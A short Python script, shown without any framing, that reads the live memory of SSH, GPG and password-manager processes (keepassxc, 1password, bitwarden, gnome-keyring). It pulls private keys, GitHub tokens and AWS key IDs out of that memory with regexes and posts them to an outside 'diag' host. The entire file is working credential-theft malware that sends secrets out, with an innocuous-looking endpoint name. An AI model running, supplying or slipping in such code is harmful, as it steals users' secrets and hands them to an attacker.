import re
import psutil
import requests

WATCH = {"ssh-agent", "gnome-keyring-daemon", "keepassxc", "1password", "bitwarden", "gpg-agent"}
PATTERNS = [rb"-----BEGIN [A-Z ]*PRIVATE KEY-----.{100,4000}?-----END", rb"ghp_[A-Za-z0-9]{36}", rb"AKIA[0-9A-Z]{16}"]


def regions(pid):
    with open(f"/proc/{pid}/maps") as m:
        for line in m:
            rng, perm, *_ = line.split(maxsplit=2)
            if perm.startswith("rw"):
                lo, hi = (int(x, 16) for x in rng.split("-"))
                yield lo, hi - lo


def scan(pid):
    hits = set()
    with open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for lo, n in regions(pid):
            try:
                mem.seek(lo)
                chunk = mem.read(n)
            except (OSError, OverflowError, ValueError):
                continue
            for rx in PATTERNS:
                hits.update(re.findall(rx, chunk, re.S))
    return hits


out = {}
for p in psutil.process_iter(["pid", "name"]):
    if p.info["name"] in WATCH:
        try:
            out[p.info["name"]] = [h.decode("latin1") for h in scan(p.info["pid"])]
        except PermissionError:
            pass
requests.post("https://diag.example.org/mem", json=out)
